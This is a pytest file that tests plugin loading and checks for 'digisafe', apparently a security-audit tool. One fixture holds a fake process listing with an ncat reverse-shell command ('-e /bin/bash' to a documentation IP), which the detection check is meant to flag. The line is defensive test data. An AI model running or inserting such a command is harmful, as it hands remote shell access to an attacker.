"""The plugin path, end to end: a real distribution found through importlib.metadata."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

HERE = Path(__file__).resolve().parent.parent
EXAMPLE = HERE / "plugin_example"


def _dist_info(site: Path, name: str, version: str, entry_points: str, modules: dict[str, str]) -> None:
    """Lay out an installed distribution by hand (what pip writes), for the broken-plugin cases."""
    info = site / f"{name.replace('-', '_')}-{version}.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
    (info / "entry_points.txt").write_text(entry_points)
    for rel, text in modules.items():
        target = site / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)


@pytest.fixture(scope="module")
def plugin_site(tmp_path_factory) -> Path:
    """Install the example plugin (pip, no network) plus two broken ones into a private folder."""
    site = tmp_path_factory.mktemp("site")
    subprocess.run(
        [
            sys.executable,
            "-m",
            "pip",
            "install",
            "--quiet",
            "--no-deps",
            "--no-build-isolation",
            "--no-index",
            "--target",
            str(site),
            str(EXAMPLE),
        ],
        check=True,
        env={**os.environ, "PIP_DISABLE_PIP_VERSION_CHECK": "1"},
        capture_output=True,
    )
    _dist_info(
        site,
        "digisafe-broken",
        "0.3",
        "[digisafe.checks]\nbroken = digisafe_broken.checks:Nope\n",
        {"digisafe_broken/__init__.py": "", "digisafe_broken/checks.py": "import no_such_module_xyz\n"},
    )
    _dist_info(
        site,
        "digisafe-dupe",
        "0.1",
        "[digisafe.checks]\ndupe = digisafe_dupe:DUPES\n",
        {
            "digisafe_dupe/__init__.py": "from digisafe.checks.sessions import LoginSessionsCheck as _S\n"
            "class Dupe(_S):\n    pass\n"
            "DUPES = [Dupe]\n"
        },
    )
    return site


def _digisafe(site: Path, home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(site), "HOME": str(home), "NO_COLOR": "1"}
    return subprocess.run(
        [sys.executable, "-m", "digisafe", *args], capture_output=True, text=True, env=env, timeout=60
    )


@pytest.mark.system
def test_installed_plugin_is_listed_and_runs_and_broken_ones_are_visible(plugin_site, tmp_path) -> None:
    listing = _digisafe(plugin_site, tmp_path, "checks", "--format", "json")
    assert listing.returncode == 0, listing.stderr
    rows = {r["id"]: r for r in json.loads(listing.stdout)}
    assert rows["DS-X-ACME-010"]["origin"] == "plugin digisafe-acme 1.2.0"
    assert rows["DS-SESS-010"]["origin"] == "built-in"
    assert rows["plugin:broken"]["status"] == "error" and "no_such_module_xyz" in rows["plugin:broken"]["title"]
    assert rows["DS-SESS-010"]["status"] == "ok"
    assert "duplicate check ID DS-SESS-010" in rows["plugin:dupe"]["title"]
    assert rows["plugin:dupe"]["origin"] == "plugin digisafe-dupe 0.1"

    (tmp_path / "Desktop").mkdir()
    (tmp_path / "Desktop" / "passwords.txt").write_text("bank: hunter2\n")
    audit = _digisafe(plugin_site, tmp_path, "audit", "--only", "DS-X-ACME-010", "--format", "json")
    report = json.loads(audit.stdout)
    results = {r["check_id"]: r for r in report["results"]}
    assert results["DS-X-ACME-010"]["findings"][0]["title"] == "A file of passwords is on the Desktop"
    assert results["DS-X-ACME-010"]["origin"] == "plugin digisafe-acme 1.2.0"
    assert results["plugin:broken"]["status"] == "error"
    assert audit.returncode == 1  # the medium finding wins over the broken plugin's "incomplete"

    saved = tmp_path / "audit.json"
    saved.write_text(audit.stdout)
    csv = _digisafe(plugin_site, tmp_path, "report", str(saved), "--format", "acme-csv")
    assert csv.returncode == 0, csv.stderr
    assert csv.stdout.splitlines()[:2] == ["check,severity,title",
                                           "DS-X-ACME-010,medium,A file of passwords is on the Desktop"]

    explain = _digisafe(plugin_site, tmp_path, "explain", "DS-X-ACME-010")
    assert "passwords.txt on the Desktop" in explain.stdout


@pytest.mark.system
def test_a_plugin_check_for_another_subject_runs_only_there(plugin_site, tmp_path) -> None:
    """DS-X-ACME-020 looks at captured listings: it runs on `processes --from` and is absent from the
    laptop audit (not even skipped)."""
    rows = {r["id"]: r for r in json.loads(_digisafe(plugin_site, tmp_path, "checks", "--format", "json").stdout)}
    assert rows["DS-X-ACME-020"]["subjects"] == ["listing"]
    listing = tmp_path / "ps.txt"
    listing.write_text("  PID USER     COMM             ARGS\n    1 root     /sbin/init       /sbin/init\n"
                       "  812 sam      /usr/bin/ncat    /usr/bin/ncat 203.0.113.5 4444 -e /bin/bash\n")
    done = _digisafe(plugin_site, tmp_path, "processes", "--from", str(listing), "--platform", "linux",
                     "--format", "json")
    report = json.loads(done.stdout)
    results = {r["check_id"]: r for r in report["results"]}
    assert results["DS-X-ACME-020"]["findings"][0]["evidence"]["pid"] == 812, done.stderr
    assert results["DS-X-ACME-020"]["origin"] == "plugin digisafe-acme 1.2.0" and "DS-PROC-010" in results
    assert "DS-X-ACME-010" not in results  # a laptop check is not run on a listing
    audit = _digisafe(plugin_site, tmp_path, "audit", "--only", "DS-X-ACME-010", "--format", "json")
    assert "DS-X-ACME-020" not in audit.stdout
    wrong = _digisafe(plugin_site, tmp_path, "audit", "--only", "DS-X-ACME-020")
    assert wrong.returncode == 2 and "does not look at this laptop" in wrong.stderr


def test_builtin_checks_are_registered_through_the_entry_point_group() -> None:
    from importlib.metadata import distribution

    import digisafe.checks as builtin

    eps = [ep for ep in distribution("digisafe").entry_points if ep.group == "digisafe.checks"]
    assert [ep.value for ep in eps] == ["digisafe.checks:BUILTIN_CHECKS"]
    assert eps[0].load() is builtin.BUILTIN_CHECKS
    ids = [c.id for c in builtin.BUILTIN_CHECKS]
    assert ids == sorted(ids) and len(ids) == len(set(ids))
